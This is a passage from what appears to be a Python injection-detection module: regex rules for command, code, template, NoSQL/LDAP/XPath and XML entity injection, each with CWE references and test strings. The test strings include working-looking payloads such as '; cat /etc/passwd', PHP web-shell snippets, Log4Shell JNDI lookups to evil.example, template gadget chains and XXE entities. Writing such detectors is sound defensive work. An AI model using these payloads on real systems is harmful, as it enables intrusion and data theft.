                r"(?:\A|[?&;\s])(?:[\w\[\].-]{0,30}(?:include|inc|page|pag|file|path|template|tpl|document|folder|root|module|mod|lang|layout|conf|config|dir|src|load|content|skin|theme|plugin|cmd|main|body|header|footer|show|read|open|style|locale|pg|abs|basepath|absolute)\w{0,20})\]?\s?=\s?['\"]?(?:https?|ftps?|php|data|file|expect|zip|phar|gopher|ldap|dict|smb)?:?[/\\]{2}\w",
            ),
            (
                "ftp://|tftp://|smb://|gopher://|dict://|ldap://|file://|ldaps://|sftp://|jar:|netdoc:",
                r"(?:\A|[=\s'\"(])(?:t?ftps?|smb|gopher|dict|ldaps?|file|netdoc|jar:\w{2,5}|rsync|svn\+?\w{0,3}|ssh2)://?",
            ),
            ("\\\\|//", r"\A(?:\\\\|//)[\w.-]{1,100}[/\\][\w$.-]"),
            (
                ".txt|.php|.inc|.asp|.jsp",
                r"\A(?:https?|ftps?)://[^\s/]{1,100}/(?:[^\s?]{0,200}/)?[\w.-]{0,40}(?:shell|c99|r57|cmd|backdoor|evil|attack|rfi|pwn|exploit|payload|malicious|hack|inject|inc)[\w.-]{0,20}(?:\.\w{1,5})?\Z",
            ),
            (
                "127.|localhost|10.|192.168|172.|169.254|[::|0x|metadata",
                r"(?:\A|[=@/\s'\"])(?:\w{2,8}://)?(?:[^\s/@]{1,60}@)?(?:127\.\d|localhost\b(?:[:/])|0\.0\.0\.0|10\.\d{1,3}\.\d{1,3}\.\d|192\.168\.\d{1,3}\.\d|172\.(?:1[6-9]|2\d|3[01])\.\d|169\.254\.\d|\[::|0x7f|metadata\.)[\w.:\]]{0,60}/[\w./-]{0,60}",
            ),
        ),
        references=("CWE-98", "CWE-829", "CWE-918"),
        matches=(
            "http://192.0.2.1/x",
            "http://evil.example/x.txt?",
            "page=http://evil.example/x",
            "ftp://evil.example/x",
            "next=http://localhost:8080/admin",
        ),
        passes=(
            "https://example.com/index.php?id=3",
            "https://example.com/robots.txt",
            "https://example.com/search?q=include",
            "https://example.com/login?next=/home",
        ),
    ),
)

# -- commands and code

#: Commands whose names are no English words ...
_COMMANDS = r"(?:cat|ls|id|whoami|uname|ping|curl|wget|ifconfig|netstat|nc|ncat|netcat|socat|bash|sh|zsh|ksh|csh|dash|busybox|python\d?|perl|ruby|php|lua|gawk|awk|egrep|grep|nl|od|xxd|cp|mv|rm|chmod|chown|mkdir|printf|printenv|ps|hostname|nslookup|dig|telnet|ftp|tftp|ssh|scp|rsync|crontab|sudo|passwd|useradd|adduser|sendmail|gzip|gunzip|df|du|pwd|traceroute|tcpdump|iptables|lsof|xargs|wc|whereis|gcc|vim|xterm|nohup|lynx|openssl|kubectl|sqlite3|mysqldump|sleep|env|dir|ipconfig|systeminfo|tasklist|taskkill|cmd|cmd\.exe|powershell(?:\.exe)?|pwsh|certutil|bitsadmin|wmic|schtasks|rundll32|regsvr32|mshta|cscript|wscript|icacls|cacls|findstr|nbtstat|getmac|driverquery|quser|msiexec|calc\.exe)"
#: ... and those that are, which need an argument no sentence has.
_WORDY = r"(?:type|find|head|tail|more|less|tac|sed|strings|base64|touch|echo|set|export|kill|top|who|last|host|mail|tar|zip|unzip|dd|mount|date|time|arp|route|tee|sort|cut|tr|rev|diff|file|which|locate|make|ed|eval|exec|source|reboot|shutdown|halt|poweroff|fetch|git|docker|mysql|psql|net\d?|copy|move|del|rd|md|reg|sc|attrib|start|call|tree|cd|ver|node|ip|su|w|where|timeout|vi|nano|uptime|set|tail)"
_SURE = (
    r"(?:cat\s{1,9}[^|;&\n]{0,20}/(?:etc|proc|var|home)|type\s{1,9}c:|id(?:\s|[;|&#'\"`)]|\Z)|whoami\b|uname(?:\s{1,9}-|\s{0,9}\Z|[;|&)`'\"])|ping\s{1,9}-[a-z]\s{0,9}\d|sleep\s{1,9}\d|curl\s{1,9}[^;|&\n]{0,60}(?:https?:|\d{1,3}\.|\w\.)|wget\s{1,9}[^;|&\n]{0,60}(?:https?:|\d{1,3}\.|\w\.)"
    r"|(?:nc|ncat|netcat)\s{1,9}[^;|&\n]{0,60}(?:-e|-c|-l|\d{2,5})|bash\s{1,9}-[ic]|/bin/(?:ba|z|k|c|da)?sh\b|ls\s{1,9}(?:-[a-z]{1,6}\s{0,4})?(?:/|-la|\Z)|ifconfig\b|ipconfig\b|net\s{1,9}(?:user|localgroup|view)|dir\s{1,9}c:|systeminfo\b|nslookup\s|python\d?\s{1,9}-c|perl\s{1,9}-e|php\s{1,9}-r|ruby\s{1,9}-e|powershell\s|rm\s{1,9}-|echo\s{1,9}\w{1,30}\s{0,4}>|/usr/bin/\w|cmd(?:\.exe)?\s{0,4}/c)"
)
_BREAK = r"(?:;|\|{1,2}|&{1,2}|\n|\r|\$\(|<\(|>\()"
_GAP = r"(?:['\"\\]|\$[@*]){0,3}"
#: A command whose letters are kept apart by quotes, backslashes or empty parameters.
_SPLIT = (
    r"(?<![\w'\"])(?:"
    + "|".join(
        rf"(?!{name}\b)" + _GAP.join(name) for name in "cat ls id whoami wget curl bash ping uname nc sh passwd".split()
    )
    + r")(?!\w)"
)
_PHP_CALLS = r"(?:system|exec|shell_exec|passthru|popen|proc_open|pcntl_exec|eval|assert|base64_decode|gzinflate|gzuncompress|str_rot13|create_function|call_user_func(?:_array)?|preg_replace|phpinfo|phpversion|php_uname|file_get_contents|file_put_contents|fopen|fsockopen|readfile|include(?:_once)?|require(?:_once)?|show_source|highlight_file|unserialize|move_uploaded_file|array_map|usort|ob_start|getenv|ini_set|extract|parse_str|register_shutdown_function|print_r|var_dump|die|chr|hex2bin|unlink|posix_getpwuid|get_defined_vars|mail|putenv|dl|scandir|opendir|curl_exec|simplexml_load_\w{4,6}|md5|print|echo)"

_CODE = (
    _certain(
        "command-injection",
        "A value that ends one command and begins another",
        (
            ((";", "|", "&", "`", "$(", "\n", "\r"), r"\A\s{0,9}(?:`|" + _BREAK + r"{1,3})\s{0,9}" + _SURE),
            (
                (";", "|", "&", "`", "$(", "\n"),
                r"\A[^\s;|&`$'\"]{0,60}['\"]?\s{0,4}(?:;|\|{1,2}|&{1,2}|`|\$\(|\n)\s{0,9}" + _SURE + r"[^\n]{0,80}\Z",
            ),
            ("() {|(){|() :", r"\(\)\s{0,4}\{\s{0,4}(?::;|:\s{0,4};|_;|[^}]{0,40}\}\s{0,4};|_\[\$\(|:\})"),
            ("ifs", r"[;|&`(\n\w]\s{0,4}\w{0,10}\$\{?ifs"),
        ),
        references=("CWE-78", "CWE-77", "ATT&CK T1059"),
        matches=(
            "; cat /etc/passwd",
            "127.0.0.1 && ping -c 3 evil.example".replace(" &&", "&&"),
            "x|id",
            "%0aid",
            "$(whoami)",
            "() { :;}; echo x",
            "cat${IFS}/etc/passwd",
            "a'; sleep 5 #",
        ),
        passes=("ls | grep x", "R&D; see notes", "fish & chips", "a | b | c", "Tom; Jerry", "$(date) in a template"),
    ),
    _suspected(
        "command-injection",
        "A value with the marks of command injection",
        (
            (
                (";", "|", "&", "$(", "\n", "\r", "<(", ">("),
                _BREAK
                + r"{1,3}(?:(?<=[\n\r])[ \t]{0,9}|(?<![\n\r])[\s'\"!(]{0,9})(?:/?(?:[\w.?*-]{1,20}/){1,6})?(?:"
                + _COMMANDS
                + r"(?=[\s;|&`'\")}<>#$/\\]|\Z)(?!\s{1,3}(?:and|or|the|a|is|of|to|for|with|in|on|vs)\b)|"
                + _WORDY
                + r"\s{1,4}(?:[-/.$*~\"'>]|\w{0,20}[/\\:.]\w|\w{1,30}\s{0,4}>))",
            ),
            (
                "`",
                r"(?:\A\s{0,9}|[\w=/.,;|&-])`\s{0,4}(?:"
                + _COMMANDS
                + r"|"
                + _WORDY
                + r")\b[^`\n]{0,80}(?:`\s{0,9}\Z|\Z|`[\w/.;|&])|`\s{0,4}"
                + _SURE,
            ),
            (
                "$",
                r"\$\{?ifs\b|\$\(\s{0,4}(?:<|\w{2,12}\s|\w{2,12}\))|\$\(\(|\$'\\|\$\{\w{1,10}:[\d~-]|\$\{@",
            ),
            (
                "/",
                r"(?:\A|[;|&`(=<>{,$])\s{0,4}/?(?:usr/|local/|s?bin/|\?{3}/|[\w?*]{1,6}/){0,3}/?(?:s?bin|\?\?\?)/[\w?*.-]{1,20}|/dev/(?:tcp|udp)/|(?:>|>>)\s{0,4}/(?:tmp|var|dev|etc|proc|home)",
            ),
            (("'", '"', "\\", "$@", "$*"), _SPLIT),
            ("{", r"\{\s{0,2}" + _COMMANDS + r",[^{}\s]{1,80}\}"),
            (
                ".exe|cmd|powershell|%comspec%|%systemroot%",
                r"\b(?:cmd|powershell|pwsh|wscript|cscript|mshta|certutil|net1?|rundll32|regsvr32)(?:\.exe\s{0,4}|\s{1,4})[/-]\w|\bcmd/c|%(?:comspec|systemroot|windir|programfiles|temp|appdata)(?::[^%]{1,20})?%|\b\w{1,30}\.exe\b\s{1,4}[/-]",
            ),
            (
                " ",
                r"\A\s{0,4}(?:sudo\s{1,9})?(?:cat|wget|curl|nc|ping|bash|sh|ls|rm|chmod|nslookup|python\d?|perl|ruby|php|uname|netstat|telnet|tftp|type|dir|net|powershell|certutil|whoami|head|tail|find|less|more|nmap)\s{1,9}(?:-{1,2}\w|/\w|\.{1,2}/|[a-z]:\\|https?://|\d{1,3}\.\d|\*|~)",
            ),
            (
                "system|popen|exec|spawn|call|run|check_|getoutput|getstatus|fork|capture|listdir|environ|exit|mainmodule|binding|env|__import__|child_process|%x|qx|compile|open",
                r"\b(?:os|subprocess|commands|pty|popen2|kernel|process|io|open3|runtime|child_process|posix|shutil|ctypes|sys)\s{0,4}(?:\.|::)\s{0,4}(?:system|popen\d?|exec\w{0,6}|spawn\w{0,6}|call|run|check_\w{4,6}|getoutput|getstatusoutput|fork|capture\d?e?|listdir|environ|exit|mainmodule|binding|env)\b|\b__import__\s{0,4}\(|child_process|%x[({\[]|\bqx[({/]|\bexec(?:sync|file)?\s{0,4}\(\s{0,4}['\"]|\bsystem\s{0,4}\(\s{0,4}['\"]|(?:\A|[;{(`|])\s{0,4}system\s{1,4}['\"]|\bexecfile\s{0,4}\(|\bcompile\s{0,4}\(\s{0,4}['\"]|\bopen\s{0,4}\(\s{0,4}['\"]\|?\s{0,2}/",
            ),
        ),
        references=("CWE-78", "CWE-77", "ATT&CK T1059"),
        matches=(
            "x; ls",
            "a & dir",
            "`uname -a`",
            "/bin/cat /etc/hosts",
            "w'h'o'a'm'i' x".replace(" x", ""),
            "{cat,/etc/passwd}",
            "cmd.exe /c dir",
            "wget http://evil.example/x",
        ),
        passes=(
            "fish & chips",
            "research; development",
            "the cat sat",
            "find the time to sort it",
            "ls means list",
            "black/white",
            "Salt & pepper",
            "Tom | Jerry",
        ),
    ),
    _certain(
        "code-injection",
        "A value that a server would run as PHP, Java or JavaScript",
        (
            ("<?", r"<\?(?:php|=)\s{0,9}[^?]{0,200}?\b" + _PHP_CALLS + r"\s{0,4}[(\s'\"`]"),
            (
                "$_",
                r"\b(?:eval|assert|system|exec|passthru|shell_exec|include|require|popen|create_function)\s{0,4}\(?\s{0,4}@?\$_(?:get|post|request|cookie|server|files)\b",
            ),
            (
                "auto_prepend|allow_url_include",
                r"\b(?:auto_(?:prepend|append)_file|allow_url_include|disable_functions)\s{0,4}=\s{0,4}\S",
            ),
            (
                "runtime|processbuilder|_memberaccess|ognl|classloader|scriptenginemanager",
                r"(?:t\s{0,2}\(\s{0,2}|@|#\{?|\$\{|%\{|\(|'|\"|new\s{1,4})[^\n]{0,60}?(?:java\.lang\.(?:runtime|processbuilder|system)|getruntime\s?\(\)|_memberaccess|ognl\.\w|scriptenginemanager)|class\.module\.classloader|\bclass\[?['\"]?module['\"]?\]?\.classloader",
            ),
            (
                "mainmodule|child_process",
                r"process\s?\.\s?mainmodule\s?\.\s?(?:require|constructor)|(?:'|\"|\+|;|\)|=|\{|,|\A)\s{0,4}(?:global\.)?(?:process\.)?require\s{0,4}\(\s{0,4}['\"]child_process['\"]\s{0,4}\)\s{0,4}\.\s{0,4}\w",
            ),
            ("_$$nd", r"_\$\$nd_func\$\$_"),
            (
                "jndi",
                r"\$\{\s{0,4}jndi\s{0,4}:|\bjndi\s{0,4}:\s{0,4}(?:ldaps?|rmi|dns|iiop|nis|nds|corba|http)\s{0,4}:",
            ),
            (
                "${",
                r"\$\{[^{}]{0,60}(?:\$\{[^{}]{0,60}(?::-?|\b(?:lower|upper|env|sys|date|ctx|main|java|base64|bundle)\b)[^{}]{0,60}\}[^{}$]{0,10}){2}",
            ),
        ),
        references=("CWE-94", "CWE-917", "CWE-95", "ATT&CK T1190"),
        matches=(
            "<?php system($_GET['c']); ?>",
            "${jndi:ldap://evil.example/a}",
            "${${lower:j}${lower:n}di:ldap://evil.example/a}",
            "${${::-j}${::-n}${::-d}${::-i}:rmi://evil.example/a}",
            "%{(#_memberAccess['x']=true)}",
            "T(java.lang.Runtime).getRuntime().exec('id')",
            "class.module.classLoader.resources.context.parent.pipeline.first.pattern=x",
        ),
        passes=(
            "${HOME}/bin",
            "The Java runtime is old",
            "import java.util.List;",
            "<?xml version='1.0'?>",
            "const fs = require('fs')",
            "jndi name of the pool",
        ),
    ),
    _suspected(
        "code-injection",
        "A value with the marks of code for a server",
        (
            ("<?|<%", r"<\?(?:php|=|\s|\Z)(?!xml)|<%[=@!\s]|\[php\]|\?>\s?\Z"),
            ("(", r"(?:\A|[^\w.>-])" + _PHP_CALLS + r"\s{0,4}\(\s{0,4}(?:['\"$@\d_)/`]|\w{1,20}\s{0,4}\(|__|array)"),
            (
                "$",
                r"\$_(?:get|post|request|server|cookie|files|session|env)\b|\$(?:globals|http_\w{3,20}_vars|php_self)\b|\$\{?\w{1,20}\}?\s{0,4}(?:\[['\"]?\w{0,20}['\"]?\])?\s{0,4}\(\s{0,4}['\"$]|\$\w{1,20}\s{0,4}=\s{0,4}['\"(\[$@]|\$\{[\w@]{0,20}\(|\$\$\w",
            ),
            (
                "_file|url_include|disable_functions|open_basedir|safe_mode|-d+|-d ",
                r"\b(?:auto_(?:prepend|append)_file|allow_url_(?:include|fopen)|disable_functions|open_basedir|safe_mode|suhosin\.\w{3,30}|cgi\.\w{5,30}|user_ini\.\w{3,30})\b|\A-[dsz]\s?\w",
            ),
            (
                "java|ognl|xwork|opensymphony|runtime|classloader|memberaccess|#context|#session|#request|#application|#parameters|#attr|processbuilder|com.|org.|getclass|forname",
                r"\bjava\.(?:lang|io|net|util|security|rmi|beans|sql|nio)\.\w|\bjavax\.\w{2,20}\.|\bcom\.(?:opensymphony|sun\.|alibaba|mchange|caucho|rometools)|\borg\.(?:apache|springframework|codehaus|hibernate|jboss|mozilla\.javascript)\.|\bognl\b|\bxwork\b|runtime\s?\.\s?(?:getruntime|exec)|\bprocessbuilder\b|classloader\b|#_?memberaccess|#(?:context|session|request|application|parameters|attr)\[|\bgetclass\s?\(\)|\.forname\s?\(",
            ),
            (
                "process|require|global|constructor|import|function|module|eval|settimeout|vm.|this.|return|while|console",
                r"\bprocess\s?\.\s?(?:env|exit|mainmodule|binding|argv|kill|cwd|version|pid)\b|\brequire\s{0,4}\(\s{0,4}['\"`](?:node:)?(?:child_process|fs|net|os|vm|http|https|dns|repl|cluster|worker_threads)['\"`]|\brequire\s{0,4}\(\s{0,4}['\"`][^'\"`\n]{1,60}['\"`]\)\s{0,4}\.\s{0,4}\w{1,30}\s{0,4}\(|\bglobal(?:this)?\s?[.\[]\s?['\"]?(?:process|require|eval|constructor)|\bimport\s{0,4}\(\s{0,4}['\"`]|\bnew\s{1,4}function\s{0,4}\(|\bfunction\s{0,4}\w{0,20}\s{0,4}\([^)]{0,60}\)\s{0,4}\{|=>\s{0,4}\{?|\bvm\.run\w{5,20}|\bwhile\s{0,4}\(\s{0,4}(?:1|true)\s{0,4}\)|(?:res|response)\.(?:end|send|write)\s?\(|\bconsole\.log\s?\(|\bthis\.constructor",
            ),
            (
                "__",
                r"(?:\.|\[\s?['\"])__(?:class|subclasses|globals|builtins|mro|base|bases|reduce|dict|getattribute)__|__(?:import__\s?\(|proto__)",
            ),
            (
                "@{|dir[|file|dir|io.|io:|io |kernel|process|marshal|yaml|erb|open3",
                r"@\{\s?\[|\b(?:file|dir|io|kernel|process|marshal|yaml|erb|open3)\s?(?:\.|::)\s?(?:read\w{0,6}|open|popen|new|entries|glob|write|load|spawn|exec|system|clock_gettime|binread|exists?|delete|unlink)\b|\bdir\[['\"]",
            ),
            (
                "${",
                r"\$\{(?:jndi|env|sys|java|lower|upper|ctx|main|date|docker|k8s|bundle|web|log4j|base64|spring|sd|marker|map|jvmrunargs|::)[:\-]|\$\{[^}]{0,40}\$\{",
            ),
            ("jndi|rmi://|ldap://|ldaps://|iiop", r"\bjndi\b\s?[:}]|\b(?:rmi|ldaps?|iiop|corba)://\S"),
            (
                "proto|prototype",
                r"(?:\A|[\[\.'\"\s,{?&])__proto__|constructor[\]\['\".:{\s]{1,6}prototype|\bobject\.(?:prototype|assign|defineproperty|setprototypeof)\b",
            ),
        ),
        references=("CWE-94", "CWE-95", "CWE-917", "CWE-1321"),
        matches=(
            "<? echo 1 ?>",
            "phpinfo()",
            "$_GET['x']",
            "java.lang.Runtime",
            "require('fs').readdirSync('.')",
            "{{''.__class__.__mro__}}",
            "${env:SECRET}",
            '{"__proto__": {"admin": true}}',
        ),
        passes=(
            "The system (of a down)",
            "I require 'a' thing",
            "Java is a language; java island",
            "print (two copies)",
            "process the file. Then rest",
            "a mail (today)",
        ),
    ),
)

# -- templates and query languages

_TEMPLATE_WORDS = r"(?:__\w{3,20}__|config\b|self\b|request\b|cycler|lipsum|joiner|namespace|get_flashed_messages|url_for|constructor|popen|system|\bexec|eval|_self|app\.|this\b|range|attr\s?\(|import\b|getclass|forname|runtime|environ|passthru|file_get|include|dump\(|phpinfo|settings|debug|os\b|env\b|process|root\b|\$on|global|tojson|class\b|mro)"

_TEMPLATES = (
    _certain(
        "template-injection",
        "A value that a template engine evaluates",
        (
            ("{{", r"\{\{[^{}\n]{0,60}?\d{1,9}\s{0,4}\*\s{0,4}['\"]?\d{1,9}[^{}\n]{0,60}\}\}"),
            (
                "${",
                r"\$\{\{?\s{0,4}\d{1,9}\s{0,4}[*+]\s{0,4}\d{1,9}\s{0,4}\}|\$\{\{?[^{}\n]{0,60}(?:t\s?\(\s?java|\.getclass\s?\(|\.class\.forname|freemarker\.template)",
            ),
            (
                "#{|*{|@(|<%|~{",
                r"(?:#|\*|@|~)\{\s{0,4}\d{1,9}\s{0,4}[*+]\s{0,4}['\"]?\d{1,9}\s{0,4}\}|@\(\s{0,4}\d{1,9}\s{0,4}[*+]\s{0,4}\d{1,9}\s{0,4}\)|<%=?\s{0,4}\d{1,9}\s{0,4}[*+]\s{0,4}\d{1,9}\s{0,4}%>",
            ),
            ("__", r"(?:\{\{|\{%|\$\{|#\{)[^\n]{0,80}?__(?:class|mro|subclasses|globals|builtins|import|base|init)__"),
            (
                "freemarker.template|.utility.execute|_self.env",
                r"freemarker\.template\.utility\.\w|_self\.env\.(?:set|reg|get|enable)",
            ),
            (
                "lipsum|cycler|joiner|get_flashed|constructor",
                r"\{\{[^{}\n]{0,80}(?:lipsum|cycler|joiner|get_flashed_messages)\b[^{}\n]{0,200}(?:\.|\[|\|)|\{\{[^{}\n]{0,80}constructor\s?[.\[(]\s?['\"]?(?:constructor|\()",
            ),
            (
                "<%",
                r"<%=?[^%\n]{0,80}(?:\bsystem\s?\(|`|\bfile\.(?:open|read)|\bio\.popen|\bruntime\b|global\.process|\bdir\.)",
            ),
            (
                "{%",
                r"\{%[^%\n]{0,80}\b(?:import\s{1,4}(?:os|subprocess)\b|debug\s{0,4}%|for\s{1,4}\w{1,20}\s{1,4}in\s{1,4}(?:\(\)|\[\]|''|\"\")\.)",
            ),
            ("#set", r"#set\s{0,4}\(\s{0,4}\$\w{1,20}\s{0,4}=\s{0,4}[^)]{0,80}(?:class|runtime|forname|\d\s?\*\s?\d)"),
            (
                "{php|{system|{literal",
                r"\{(?:php|system)\}|\{(?:system|passthru|exec|readfile|file_get_contents|phpinfo)\s?\(",
            ),
        ),
        references=("CWE-1336", "CWE-94"),
        matches=(
            "{{7*7}}",
            "${7*7}",
            "<%= 7*7 %>",
            "{{''.__class__.__mro__[1].__subclasses__()}}",
            '${"freemarker.template.utility.Execute"?new()("id")}',
            "{{_self.env.registerUndefinedFilterCallback('exec')}}",
            "{{constructor.constructor('alert(1)')()}}",
        ),
        passes=(
            "Hello {{ name }}",
            "${HOME}/bin",
            "{% for x in items %}",
            "a {b} c",
            "{{ user.email | lower }}",
            "<%= title %>",
        ),
    ),
    _suspected(
        "template-injection",
        "A value with the marks of template injection",
        (
            (
                "{{|{%|${|#{|*{|<%|[[|@(|~{|<#",
                r"(?:\{\{|\{%|\$\{|#\{|\*\{|<%|\[\[|~\{|<#)[^\n]{0,80}?" + _TEMPLATE_WORDS,
            ),
            (
                "*|+",
                r"(?:\{\{|\$\{|#\{|\*\{|<%=?|\[\[|@\(|~\{|\{=|\{)\s{0,4}['\"]?\d{1,9}['\"]?\s{0,4}[*+/-]\s{0,4}['\"]?\d{1,9}",
            ),
            (
                "#set|#foreach|#evaluate|#include|#parse|<#assign|<#include|@{|{#|{@|#macro",
                r"#(?:set|foreach|evaluate|include|parse|macro)\s{0,4}\(|<#(?:assign|include|list|import|macro|function)|\{\{\s?#(?:with|each|if|lookup)|\{@(?:math|print|include)",
            ),
            (
                "{{|{%",
                r"\{\{[^{}\n]{0,80}(?:\(|\||\[['\"0-9]|'\s?\.|\"\s?\.)[^{}\n]{0,200}\}\}|\{%\s?(?:set|import|include|extends|debug|raw|call|macro|filter|load)\b",
            ),
        ),
        references=("CWE-1336", "CWE-94"),
        matches=("{{config}}", "#{7*7}", "#set($x=1)", "{{ 'a'.toUpperCase() }}"),
        passes=("Hello {{ name }}", "{curly}", "set (of 2)", "{{ user.email }}", "${price}"),
    ),
)

_QUERIES = (
    _certain(
        "query-injection",
        "A value that changes the meaning of a NoSQL, LDAP or XPath query it is put into",
        (
            (
                "$where",
                r"\$where['\"]?\s{0,4}[:=\]]{1,2}\s{0,4}['\"]?\s{0,4}(?:function|this|sleep|return|while|\d|'|\")|\$func['\"]?\s{0,4}:\s{0,4}['\"]",
            ),
            (
                "[$",
                r"\[\$(?:ne|gt|gte|lt|lte|in|nin|exists|regex|where|or|and|not|eq|func|expr|all|type|mod)\]\s{0,2}(?:\[|=|\Z)",
            ),
            (
                "'",
                r"'\s{0,4}(?:\|\||&&)\s{0,4}(?:'[^']{0,20}'\s{0,4}==|\d{1,4}\s{0,4}==\s{0,4}\d|this\.\w|true\b|\(?function)|'\s{0,4};\s{0,4}return\s{1,4}(?:true|this|'|\")",
            ),
            (
                "(",
                r"\A[^()\n]{0,60}\)\s{0,4}\(\s{0,4}(?:[|&!]\s{0,4}(?:\(|\)|\Z|\w{1,30}\s{0,2}[~<>]?=)|(?:uid|cn|sn|mail|ou|dc|objectclass|userpassword|samaccountname|givenname|member|memberof|gidnumber|homedirectory|description|telephonenumber|password|zone|department|name|displayname|l|st)\s{0,2}[~<>]?=)",
            ),
            ("*)", r"\A[^()\n]{0,60}\*\s{0,4}\)\s{0,4}(?:\(|\)|\u2400|\||&|\Z)"),
            (
                "' or|'or|\" or|]|count(|name(|position(|string-length",
                r"['\"]\s{0,4}(?:or|and)\s{1,4}(?:count|string-length|name|local-name|contains|starts-with|substring|position|normalize-space|string|doc|unparsed-text)\s?\(|['\"]\s{0,4}\]\s{0,4}(?:\||/)|\]\s{0,4}\|\s{0,4}//",
            ),
        ),
        references=("CWE-943", "CWE-90", "CWE-643"),
        matches=(
            "username[$ne]=x",
            '{"$where": "this.a == 1"}',
            "' || '1'=='1",
            "*)(uid=*))(|(uid=*",
            "admin)(&)",
            "' or count(//user)=1 or 'a'='b",
            "x'] | //user/*",
        ),
        passes=(
            "(a) (b)",
            "f(x)(y)",
            "note (see below) (again)",
            "it's $5",
            "see [1] | [2]",
            "(&(objectClass=user)(cn=x))",
        ),
    ),
    _suspected(
        "query-injection",
        "A value with the marks of NoSQL, LDAP or XPath injection",
        (
            (
                "$",
                r"(?:['\"\[{,]\s{0,2}|\A)\$(?:ne|gt|gte|lt|lte|in|nin|exists|regex|options|where|or|and|nor|not|eq|expr|func|function|elemmatch|all|mod|type|size|comment|slice|text|search|lookup|group|match|project|unwind|out|merge|set|unset|inc|push|pull|rename|accumulator|jsonschema)(?:['\"\]\s:]|\Z)",
            ),
            (
                "return|this.|db.|tojson|obj.|sleep|while|var|it=|1==1|true",
                r"['\"]?\s{0,4};\s{0,4}(?:return\b|var\s|while\s?\(|sleep\s?\(|db\.|it=)|\bthis\.\w{1,30}\s{0,4}(?:==|!=|\.match|\[|=~|\.length|\.charat)|\bdb\.\w{1,30}\.(?:find|insert|drop|remove|update|getcollection|count|aggregate|eval|stats)\b|\btojson(?:online)?\s?\(|\|\|\s?(?:1==1|true\b|this)|&&\s?this\.",
            ),
            (
                ("(", ")", "*", "\\"),
                r"\)\s{0,4}\(\s{0,4}[|&!]|[(|&!]\s{0,4}\(\s{0,4}[\w;-]{1,40}\s{0,2}[~<>:]?=|\A[^()]{0,40}\*?\)\s{0,4}\(|\*\s{0,4}\)\s{0,4}[()|&]|\(\s{0,2}[|&]\s{0,2}(?:\(|\Z)|\A\*[()|&\\]|\A\)\s?\(|\A\(?\|\(|\\(?:2a|28|29|5c|00)(?:\\|\Z|\w{0,3}\Z)",
            ),
            (
                "(",
                r"\(\s{0,2}(?:objectclass|uid|cn|userpassword|samaccountname|ou|dc|sn|mail|memberof)\s{0,2}[~<>]?=\s{0,2}[^()]{0,80}(?:\)|\*|\Z)",
            ),
            (
                "/|]",
                r"(?:['\"\]|(=]|\bor\b|\band\b|\A)\s{0,4}(?://(?:\*|user|node|\w{1,30}(?:\[|/text|/@|/\*|\Z))|/\*\[)|/(?:text|node|comment)\(\)|\]\s{0,4}(?:/|\|)|/(?:child|parent|ancestor|descendant|following|preceding|attribute|self)::|/@\*",
            ),
            (
                "count(|name(|position(|string-length(|substring(|starts-with(|contains(|doc(|::|last()|unparsed-text(|document(",
                r"\b(?:count|string-length|local-name|name|namespace-uri|normalize-space)\s?\(\s?(?:/|\.|@|\*|\w{1,30}/|name\(|substring|\))|\b(?:substring|starts-with|contains|ends-with)\s?\(\s?(?:/|\.|@|\w{1,30}[/,]|name\(|string)|\b(?:position|last)\s?\(\s?\)\s{0,2}[=<>\]]|\b(?:doc|document|unparsed-text|doc-available|environment-variable)\s?\(\s?(?:'|\"|concat)|\b(?:child|parent|ancestor|descendant|following|preceding|attribute|self)(?:-or-self|-sibling)?::",
            ),
        ),
        references=("CWE-943", "CWE-90", "CWE-643"),
        matches=(
            '{"password": {"$gt": ""}}',
            "';return true;var a='",
            "*)(cn=*",
            "(|(uid=*)(cn=*))",
            "//user[name/text()='x']",
            "substring(//user[1]/password,1,1)='a'",
        ),
        passes=("costs $in total", "call me (or (her))", "https://example.com/user", "f(x) = y", "either/or", "* item"),
    ),
)

# -- parsers

_GADGETS = r"(?:org\.apache\.commons\.(?:collections|beanutils|fileupload)|templatesimpl|invokertransformer|jdbcrowsetimpl|com\.mchange\.v2|javax\.(?:management\.badattribute|script\.scriptengine|naming)|com\.sun\.(?:org\.apache|rowset|jndi)|org\.springframework\.(?:beans|context|aop|jndi)|ysoserial|objectdataprovider|system\.windows\.data|typeconfusedelegate|system\.diagnostics\.process|windowsidentity|losformatter|activitysurrogate|java\.(?:lang\.(?:processbuilder|runtime)|beans\.eventhandler|net\.url|util\.priorityqueue)|groovy\.(?:lang|util)|bcel\.util)"

_PARSERS = (
    _certain(
        "xml-entity",
        "XML that makes its reader fetch a file or an address",
        (
            ("<!entity", r"<!entity\s{1,9}(?:%\s{1,9}|%)?[\w.:-]{1,60}\s{1,9}(?:system|public)\b"),
            ("<!entity", r"<!entity\s{1,9}[\w.:-]{1,60}\s{1,9}['\"](?:[^'\"]{0,200}?[&%][\w.-]{1,40};){2}"),
            (
                "<!doctype",
                r"<!doctype\s{1,9}[\w.:-]{1,60}\s{1,9}system\s{1,9}['\"](?:file|https?|ftp|php|expect|gopher|jar|netdoc|data|\\\\|//)",
            ),
            (
                "xi:include|xinclude",
                r"<xi:include\b[^>]{0,200}href|<\w{1,20}:include\b[^>]{0,200}href\s?=\s?['\"]file:",
            ),
        ),
        references=("CWE-611", "CWE-776", "CWE-827"),
        matches=(
            '<!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
            '<!ENTITY % p SYSTEM "http://evil.example/e.dtd">',
            '<xi:include href="file:///etc/passwd" parse="text"/>',
        ),
        passes=(
            "<!DOCTYPE html>",
            "<?xml version='1.0'?><a>b</a>",
            '<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0//EN" "x">',
        ),
    ),
    _suspected(
        "xml-entity",
        "XML with a document type or stylesheet of its own",
        (
            (
                "<!doctype",
                r"<!doctype\s{1,9}[^>\[]{0,200}\[|<!doctype\s{1,9}(?!html\b)[\w.:-]{1,60}\s{1,9}(?:system|public)\b",
            ),
            ("<!e|<!a|<!n", r"<!(?:entity|element|attlist|notation)\b"),
            (
                "<xsl|xml-stylesheet|<xs:|xsi:|xlink:href|schemalocation",
                r"<xsl:(?:stylesheet|value-of|include|import|copy-of|variable)|<\?xml-stylesheet|xsi:(?:nonamespace)?schemalocation\s?=\s?['\"](?:https?|file|ftp|\S{1,80}\s(?:https?|file|ftp))|document\('",
            ),
            ("&", r"&[\w.-]{1,40};\s?</|%[\w.-]{1,40};\s{0,9}%[\w.-]{1,40};"),
            ("cdata", r"<!\[cdata\["),
        ),
        references=("CWE-611", "CWE-91"),
